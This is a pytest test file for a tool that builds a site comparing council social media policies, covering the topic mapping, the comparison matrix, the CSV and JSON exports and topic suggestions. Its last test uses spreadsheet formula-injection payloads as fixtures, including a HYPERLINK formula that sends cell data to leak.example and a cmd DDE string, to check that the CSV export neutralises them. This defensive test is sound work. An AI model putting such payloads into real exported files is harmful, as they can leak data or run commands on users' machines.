"""The cross-map: completeness, the two topics users named, the matrix, exports and suggestions."""

from __future__ import annotations

import csv
import io
import json
import re

import pytest

from policy_handbook.analyse.crossmap import compared_bodies, coverage, mappings, unmapped_clauses
from policy_handbook.analyse.suggest import suggest_topics
from policy_handbook.corpus import ClauseRef
from policy_handbook.load.loader import load_corpus
from policy_handbook.render.compare import default_pairs
from policy_handbook.render.exports import CSV_COLUMNS

from conftest import DOCUMENT, ROOT, build, copy_project, run
from html_text import page_text, words as text_of

CORPUS = load_corpus(ROOT / "source_policies")
FIVE = ["Dorset Council", "Dorset County Council", "Shaftesbury Town Council", "East Devon District Council",
        "Lincolnshire County Council"]


def section_of(raw_html: str, body_id: str) -> str:
    """The part of a topic page under one body's heading."""
    start = raw_html.index(f'id="body-{body_id}"')
    end = raw_html.find('<h2 id="body-', start + 1)
    return raw_html[start: end if end > 0 else None]


def test_every_clause_is_mapped_or_marked():
    assert unmapped_clauses(CORPUS) == []


def test_every_topic_is_addressed_by_some_body():
    assert all(entry.addressing for entry in coverage(CORPUS))


def test_position_of_finds_each_body_on_each_topic():
    for entry in coverage(CORPUS):
        for position in entry.positions:
            assert entry.position_of(position.body.id) is position
        assert entry.position_of("no-such-body") is None


def test_unmapped_clause_fails_a_strict_build(project, tmp_path):
    topics = ("groups: [{id: use, title: Use}]\ntopics:\n  - {id: working-time, title: Working time, "
              "question: May I?, description: Use at work., group: use}\n")
    mapped = DOCUMENT.replace("            text: Employees must not use",
                              "            topics: [working-time]\n            text: Employees must not use")
    root = project({"source_policies/topics.yml": topics, "source_policies/documents/alpha-policy.yml": mapped})
    result = build(root, tmp_path / "site")
    assert result.returncode != 0
    assert "alpha-policy.yml:20:17: clause 'friends' of version '2020' maps to no topic" in result.output
    assert "policy-handbook suggest" in result.output
    assert not (tmp_path / "site").exists(), "a failed build leaves no site behind"


# MkDocs counts only the warnings it prints, and -q prints none: the plugin stops a quiet strict
# build itself, before the output folder is touched.
@pytest.mark.parametrize("tool", ["mkdocs", "properdocs"])
def test_unmapped_clause_fails_a_quiet_strict_build_too(project, tmp_path, tool):
    topics = ("groups: [{id: use, title: Use}]\ntopics:\n  - {id: working-time, title: Working time, "
              "question: May I?, description: Use at work., group: use}\n")
    mapped = DOCUMENT.replace("            text: Employees must not use",
                              "            topics: [working-time]\n            text: Employees must not use")
    root = project({"source_policies/topics.yml": topics, "source_policies/documents/alpha-policy.yml": mapped})
    site = tmp_path / "site"
    site.mkdir()
    (site / "index.html").write_text("the published handbook", encoding="utf-8")
    result = run(tool, "build", "-q", "--strict", "-f", root / "mkdocs.yml", "-d", site, cwd=root)
    assert result.returncode != 0
    assert "alpha-policy.yml:20:17: clause 'friends' of version '2020' maps to no topic" in result.output
    assert "Traceback" not in result.output
    assert [p.name for p in site.iterdir()] == ["index.html"]
    assert (site / "index.html").read_text(encoding="utf-8") == "the published handbook"
    not_strict = run(tool, "build", "-q", "-f", root / "mkdocs.yml", "-d", tmp_path / "draft", cwd=root)
    assert not_strict.returncode == 0, not_strict.output
    mapped_too = mapped.replace("            text: Do not accept friend requests",
                                "            not_a_rule: background\n            text: Do not accept friend requests")
    assert mapped_too != mapped
    (root / "source_policies/documents/alpha-policy.yml").write_text(mapped_too, encoding="utf-8")
    assert run(tool, "build", "-q", "--strict", "-f", root / "mkdocs.yml", "-d", site, cwd=root).returncode == 0


def test_personal_use_in_working_time_shows_all_five_and_the_conflict(bundled_site):
    page = bundled_site / "compare/topics/personal-use-working-time/index.html"
    raw = page.read_text(encoding="utf-8")
    words = page_text(page)
    assert "Can I use social media for personal reasons during working time?" in words
    assert "The bodies do not agree" in words
    assert "Not addressed by" not in words and "Every body addresses this topic." in words
    expected = {
        "dorset-council": ["using social networking sites for personal purposes during working time"],
        "dorset-county-council": ["3.15", "Personal use of social networking sites should not be undertaken during "
                                  "working time"],
        "shaftesbury-town-council": ["6.3 i", "Employees are not allowed to access social media websites for "
                                     "personal use", "Employees should not access social media sites or leave these "
                                     "running in the background during working time"],
        "east-devon-district-council": ["Access to social media sites for personal use using the Council’s IT "
                                        "systems is not allowed."],
        "lincolnshire-county-council": ["Employees can use social media at work for personal use, on our computers "
                                        "or devices, provided that:", "during rest or lunch breaks"],
    }
    for body, phrases in expected.items():
        part = text_of(section_of(raw, body))
        for phrase in phrases:
            assert phrase in part, (body, phrase)
    assert "Prohibits (must)" in text_of(section_of(raw, "east-devon-district-council"))
    assert "Permits with conditions (may)" in text_of(section_of(raw, "lincolnshire-county-council"))
    assert "Prohibits (should)" in text_of(section_of(raw, "dorset-county-council"))


def test_friendships_with_service_users_names_who_does_not_address_it(bundled_site):
    page = bundled_site / "compare/topics/service-user-contact/index.html"
    raw = page.read_text(encoding="utf-8")
    words = page_text(page)
    assert ("Not addressed by: Dorset County Council, East Devon District Council, Lincolnshire County Council."
            in words)
    assert "requesting, or accepting a request, to become a 'friend' of a service user" in \
        text_of(section_of(raw, "dorset-council"))
    shaftesbury = text_of(section_of(raw, "shaftesbury-town-council"))
    assert "The Council considers it inappropriate to have service users as 'friends' through social media" in shaftesbury
    assert "Do not under any circumstances accept friend requests from a person you believe could be a service user" \
        in shaftesbury
    for body in ("dorset-county-council", "east-devon-district-council", "lincolnshire-county-council"):
        assert "Not addressed" in text_of(section_of(raw, body))


def test_topic_page_links_each_clause_to_its_place(bundled_site):
    raw = (bundled_site / "compare/topics/personal-use-working-time/index.html").read_text(encoding="utf-8")
    assert ('href="../../../policies/dorset-county-council-social-networking-policy/2017/'
            '#clause-personal-use-working-time"') in raw
    target = bundled_site / "policies/dorset-county-council-social-networking-policy/2017/index.html"
    assert 'id="clause-personal-use-working-time"' in target.read_text(encoding="utf-8")


def test_redlines_against_the_baseline_are_accessible_and_not_indexed(bundled_site):
    raw = (bundled_site / "compare/topics/personal-use-working-time/index.html").read_text(encoding="utf-8")
    assert "Differences from the harmonised policy" in raw
    assert re.search(r'<del class="ph-del" data-search-exclude><span class="ph-visually-hidden">\[deleted: ', raw)
    assert '<ins class="ph-ins"><span class="ph-visually-hidden" data-search-exclude>[inserted: ' in raw
    index = json.loads((bundled_site / "search/search_index.json").read_text(encoding="utf-8"))
    topic_entries = [d for d in index["docs"] if d["location"].startswith("compare/")]
    assert topic_entries, "comparison pages are still findable by their headings"
    assert not any("Employees can use social media at work" in d["text"] for d in topic_entries)


def test_matrix_has_every_topic_and_body_in_words(bundled_site):
    page = bundled_site / "compare/index.html"
    raw = page.read_text(encoding="utf-8")
    for topic in CORPUS.topics.values():
        assert f">{topic.title}</a></th>" in raw.replace("&#39;", "'"), topic.id
    header = re.search(r"<thead>(.*?)</thead>", raw, re.S).group(1)
    assert all(name in header for name in FIVE)
    row = re.search(r'<tr>\s*<th scope="row"><a href="topics/service-user-contact/">.*?</tr>', raw, re.S).group(0)
    cells = re.findall(r"<td[^>]*>(.*?)</td>", row, re.S)
    assert len(cells) == 6
    assert "Prohibits (must)" in cells[0] and "Not addressed" in cells[1] and "Not addressed" in cells[4]
    conflict_row = re.search(r'<tr>\s*<th scope="row"><a href="topics/personal-use-working-time/">.*?</tr>', raw,
                             re.S).group(0)
    assert "Differs" in conflict_row
    assert 'href="mapping.csv"' in raw and 'href="mapping.json"' in raw




def test_matrix_marks_a_body_that_no_longer_exists(bundled_site):
    """Dorset County Council's column is its last documents, no longer in force: its heading says it was abolished."""
    raw = (bundled_site / "compare/index.html").read_text(encoding="utf-8")
    headers = re.findall(r'<th scope="col">(.*?)</th>', re.search(r"<thead>(.*?)</thead>", raw, re.S).group(1))
    assert text_of(headers[2]) == "Dorset County Council (abolished 1 April 2019)"
    assert [text_of(h) for h in headers[1:] if "abolished" in h] == [text_of(headers[2])]
    assert "A body marked abolished no longer exists" in text_of(raw)


def test_csv_has_one_row_per_link_and_opens_in_a_spreadsheet(bundled_site):
    data = (bundled_site / "compare/mapping.csv").read_bytes()
    assert data.startswith(b"\xef\xbb\xbf"), "Excel needs the byte-order mark to read UTF-8"
    assert b"\r\n" in data
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert list(rows[0]) == CSV_COLUMNS
    every_link = mappings(CORPUS, include_inherited=True)
    assert len(rows) == len(every_link)
    keys = {(r["document"], r["version"], r["clause"], r["topic"]) for r in rows}
    assert len(keys) == len(rows), "one row per clause-topic link"
    dcc = next(r for r in rows if r["clause"] == "personal-use-working-time" and r["body"] == "dorset-county-council")
    assert dcc["clause_number"] == "3.15" and dcc["stance"] == "prohibits" and dcc["strength"] == "should"
    assert dcc["url"] == "policies/dorset-county-council-social-networking-policy/2017/#clause-personal-use-working-time"
    assert any("’" in r["text"] for r in rows), "curly quotes survive"


def test_json_export_is_enough_to_compare_two_bodies(bundled_site):
    data = json.loads((bundled_site / "compare/mapping.json").read_text(encoding="utf-8"))
    assert [b["name"] for b in data["bodies"]] == FIVE
    assert {t["id"] for t in data["topics"]} == set(CORPUS.topics)
    for link in data["links"]:
        clause = data["clauses"][link["clause"]]
        assert clause["text"] and clause["body"] and link["topic"] in CORPUS.topics


def test_body_pair_page_lists_topics_only_one_covers(bundled_site):
    page = bundled_site / "compare/bodies/dorset-council--lincolnshire-county-council/index.html"
    words = page_text(page)
    assert "Only Dorset Council addresses: " in words and "Friendships and contact with service users" in words
    assert "Only Lincolnshire County Council addresses: " in words and "Monitoring" in words
    assert ("Word-by-word differences, Dorset Council Inappropriate use of social networking sites, point 7 → "
            "Lincolnshire County Council Use of social media at work, paragraph 2") in words


def test_compare_option_limits_the_pairs(tmp_path):
    project = copy_project(tmp_path / "project")
    config = project / "mkdocs.yml"
    config.write_text(config.read_text(encoding="utf-8").replace(
        "      baseline_body: dorset-council\n",
        "      baseline_body: dorset-council\n      compare: [[dorset-council, dorset-county-council]]\n"),
        encoding="utf-8")
    assert build(project, tmp_path / "site").ok
    pairs = sorted(p.name for p in (tmp_path / "site/compare/bodies").iterdir())
    assert pairs == ["dorset-council--dorset-county-council"]


def test_default_pairs_are_the_baseline_against_each_other_body(bundled_site):
    pairs = sorted(p.name for p in (bundled_site / "compare/bodies").iterdir())
    others = sorted(b.id for b in compared_bodies(CORPUS) if b.id != "dorset-council")
    assert pairs == [f"dorset-council--{other}" for other in others]
    assert len(pairs) == len(compared_bodies(CORPUS)) - 1


def test_default_pairs_without_a_baseline():
    few = [f"body-{n}" for n in range(4)]
    many = [f"body-{n}" for n in range(40)]
    assert len(default_pairs(few, None)) == 6
    assert default_pairs(many, None) == []
    assert default_pairs(many, "body-3") == [("body-3", b) for b in many if b != "body-3"]


def test_unknown_body_in_options_is_a_clear_error(tmp_path):
    project = copy_project(tmp_path / "project")
    config = project / "mkdocs.yml"
    config.write_text(config.read_text(encoding="utf-8").replace("baseline_body: dorset-council",
                                                                 "baseline_body: dorset"), encoding="utf-8")
    result = build(project, tmp_path / "site")
    assert result.returncode != 0 and "unknown body 'dorset' in mkdocs.yml" in result.output
    assert "Traceback" not in result.output


# --- suggestions ------------------------------------------------------------------------

NAMED = [
    ("dorset-county-council-social-networking-policy/2017#personal-use-working-time", "personal-use-working-time"),
    ("dorset-council-social-networking-guidance/current#service-user-friendships", "service-user-contact"),
    ("dorset-county-council-social-networking-policy/2017#political-neutrality", "political-neutrality"),
    ("lincolnshire-county-council-social-media-at-work/current#personal-use-in-own-time", "personal-use-working-time"),
]


@pytest.mark.parametrize("ref, topic", NAMED)
def test_suggest_finds_the_real_topic_of_a_clause_taken_out_of_the_mapping(ref, topic):
    located = CORPUS.clause(ClauseRef.parse(ref))
    (_, ranked), = suggest_topics(CORPUS, [located])
    assert topic in [s.topic for s in ranked], ranked


def test_suggest_leave_one_document_out_over_the_whole_corpus():
    """Each document's mapped clauses, hidden from the profiles and examples together (as if
    the document were new), find one of their topics in the top three."""
    hits = total = 0
    for document in CORPUS.documents:
        clauses = [c for c in CORPUS.clauses() if c.document.id == document]
        for located, ranked in suggest_topics(CORPUS, clauses):
            own = {link.topic for link in located.clause.topic_links}
            if own:
                hits += bool(own & {s.topic for s in ranked})
                total += 1
    assert total > 150
    assert hits / total >= 0.85, f"top-3 hit rate {hits}/{total}"


def test_suggest_command_prints_and_changes_nothing(tmp_path):
    project = copy_project(tmp_path / "project")
    path = project / "source_policies/documents/dorset-county-council-social-networking-policy.yml"
    text = path.read_text(encoding="utf-8")
    block = re.search(r"( +)- id: personal-use-working-time\n(?:\1  .*\n)+", text).group(0)
    stripped = re.sub(r"\n +topics:\n(?: +- .*\n|  +\S.*\n)*?(?= +text:)", "\n", block)
    stripped = re.sub(r"\n +topics: \[[^\]]*\]", "", stripped)
    assert "topics" not in stripped
    path.write_text(text.replace(block, stripped), encoding="utf-8")
    before = path.read_bytes()
    result = run("policy-handbook", "suggest", project / "source_policies")
    assert result.ok, result.output
    lines = result.output.splitlines()
    at = next(i for i, line in enumerate(lines) if line.endswith("2017#personal-use-working-time (3.15)"))
    top3 = " ".join(lines[at + 1: at + 4])
    assert "personal-use-working-time" in top3
    assert re.match(r" +\d\.\d{3}  \S+: ", lines[at + 1])
    assert "nothing was changed" in result.output
    assert path.read_bytes() == before


FORMULA_TOPICS = """\
groups:
  - id: rules
    title: "@SUM(1+1)"
topics:
  - id: working-time
    title: "=HYPERLINK(\\"http://leak.example/?\\"&A1,\\"Open\\")"
    question: "+cmd|' /C calc'!A0"
    description: Whether staff may use social media at work.
    group: rules
"""

FORMULA_DOCUMENT = """\
id: alpha-policy
body: alpha-council
title: "-2+3"
kind: policy
attribution: {basis: stated}
versions:
  - id: "2020"
    label: "=1+1"
    status: approved
    source: {title: Alpha policy}
    sections:
      - id: rules
        title: Rules
        clauses:
          - id: working-time
            number: "-1"
            text: "=HYPERLINK(\\"http://leak.example/?\\"&A1) Employees must not use social media at work."
            topics:
              - topic: working-time
                rationale: "\\tTabbed note"
"""


def test_csv_cells_that_a_spreadsheet_would_run_start_with_a_quote(project, tmp_path):
    root = project({"source_policies/topics.yml": FORMULA_TOPICS,
                    "source_policies/documents/alpha-policy.yml": FORMULA_DOCUMENT})
    result = build(root, tmp_path / "site", strict=False)
    assert result.ok, result.output
    data = (tmp_path / "site/compare/mapping.csv").read_bytes().decode("utf-8-sig")
    row = next(csv.DictReader(io.StringIO(data, newline="")))
    assert row["topic_title"] == "'=HYPERLINK(\"http://leak.example/?\"&A1,\"Open\")"
    assert row["document_title"] == "'-2+3"
    assert row["version_label"] == "'=1+1"
    assert row["clause_number"] == "'-1"
    assert row["text"].startswith("'=HYPERLINK(")
    assert row["rationale"] == "'\tTabbed note"
    assert row["body_name"] == "Alpha Council", "other cells stay as they are"
    assert not [cell for cell in row.values() if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    exported = json.loads((tmp_path / "site/compare/mapping.json").read_text(encoding="utf-8"))
    assert exported["topics"][0]["title"].startswith("=HYPERLINK("), "the JSON keeps values as written"
